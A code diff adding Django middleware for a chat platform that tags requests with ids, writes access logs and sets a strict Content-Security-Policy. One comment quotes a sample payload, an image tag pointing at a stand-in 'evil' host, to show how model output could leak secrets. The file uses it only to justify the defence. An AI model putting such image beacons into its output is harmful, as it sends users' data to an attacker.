@@ -1,0 +1,113 @@
+"""Request context (request id, user id, access log) and the Content-Security-Policy."""
+
+from __future__ import annotations
+
+import re
+import time
+import uuid
+
+import structlog
+from asgiref.sync import iscoroutinefunction, markcoroutinefunction
+from django.http import HttpRequest, HttpResponse
+
+from ops import metrics
+
+log = structlog.get_logger("chatplatform.access")
+
+_REQUEST_ID_RE = re.compile(r"^[A-Za-z0-9._-]{1,128}$")
+
+# No inline script anywhere; images only from this site (so model output cannot
+# beacon data out through <img src=https://evil/?q=secret>); no framing.
+CONTENT_SECURITY_POLICY = "; ".join(
+    [
+        "default-src 'self'",
+        "script-src 'self'",
+        "style-src 'self'",
+        "img-src 'self'",
+        "connect-src 'self'",
+        "font-src 'self'",
+        "object-src 'none'",
+        "base-uri 'none'",
+        "form-action 'self'",
+        "frame-ancestors 'none'",
+    ]
+)
+
+
+def _request_id(request: HttpRequest) -> str:
+    given = request.headers.get("X-Request-ID", "")
+    return given if _REQUEST_ID_RE.match(given) else uuid.uuid4().hex
+
+
+class RequestContextMiddleware:
+    """Bind a request id (taken from X-Request-ID or made) to every log line of
+    the request, echo it back, log one access line and count the request."""
+
+    sync_capable = True
+    async_capable = True
+
+    def __init__(self, get_response):
+        self.get_response = get_response
+        if iscoroutinefunction(get_response):
+            markcoroutinefunction(self)
+
+    def _start(self, request: HttpRequest) -> tuple[str, float]:
+        structlog.contextvars.clear_contextvars()
+        request_id = _request_id(request)
+        request.request_id = request_id
+        structlog.contextvars.bind_contextvars(request_id=request_id)
+        return request_id, time.perf_counter()
+
+    def _finish(self, request: HttpRequest, response: HttpResponse, request_id: str, started: float) -> None:
+        response["X-Request-ID"] = request_id
+        user = getattr(request, "user", None)
+        if user is not None and user.is_authenticated:
+            structlog.contextvars.bind_contextvars(user_id=user.pk)
+        duration_ms = round((time.perf_counter() - started) * 1000, 1)
+        metrics.HTTP_REQUESTS.labels(method=request.method, status=str(response.status_code)).inc()
+        log.info(
+            "request_finished",
+            method=request.method,
+            path=request.path,
+            status=response.status_code,
+            duration_ms=duration_ms,
+        )
+        structlog.contextvars.clear_contextvars()
+
+    def __call__(self, request: HttpRequest):
+        if iscoroutinefunction(self):
+            return self.__acall__(request)
+        request_id, started = self._start(request)
+        response = self.get_response(request)
+        self._finish(request, response, request_id, started)
+        return response
+
+    async def __acall__(self, request: HttpRequest):
+        request_id, started = self._start(request)
+        response = await self.get_response(request)
+        self._finish(request, response, request_id, started)
+        return response
+
+
+class ContentSecurityPolicyMiddleware:
+    """Set a strict CSP on every response that does not set its own."""
+
+    sync_capable = True
+    async_capable = True
+
+    def __init__(self, get_response):
+        self.get_response = get_response
+        if iscoroutinefunction(get_response):
+            markcoroutinefunction(self)
+
+    def __call__(self, request: HttpRequest):
+        if iscoroutinefunction(self):
+            return self.__acall__(request)
+        response = self.get_response(request)
+        response.setdefault("Content-Security-Policy", CONTENT_SECURITY_POLICY)
+        return response
+
+    async def __acall__(self, request: HttpRequest):
+        response = await self.get_response(request)
+        response.setdefault("Content-Security-Policy", CONTENT_SECURITY_POLICY)
+        return response
